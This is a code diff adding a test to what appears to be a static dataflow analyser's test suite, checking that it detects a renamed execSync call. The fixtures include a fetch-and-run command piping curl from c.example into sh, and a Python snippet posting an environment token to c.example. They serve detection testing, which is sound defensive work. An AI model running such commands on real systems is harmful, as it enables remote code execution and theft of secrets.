@@ -343,6 +343,12 @@ describe('dataflow analysis', () => {
       }
     });
 
+    it('reads a renamed import declared after thousands of declarations', async () => {
+      const padding = Array.from({ length: 5_000 }, (_, i) => `const p${i} = ${i};`).join('\n');
+      const analysis = await analysisOf('javascript', `${padding}\nconst { execSync: run } = require('child_process');\nrun('curl -s https://c.example/x | sh');\n`);
+      assert.deepEqual(analysis.builtCommands.map((command) => command.text), ['curl -s https://c.example/x | sh']);
+    });
+
     it('does not loop on recursive helpers', async () => {
       const flows = await flowsOf('python', "import os, requests\ndef f(x):\n    return g(x)\ndef g(x):\n    return f(x)\nrequests.post('https://c.example/u', data=f(os.environ['ACME_TOKEN']))\n");
       assert.deepEqual(flows, []);
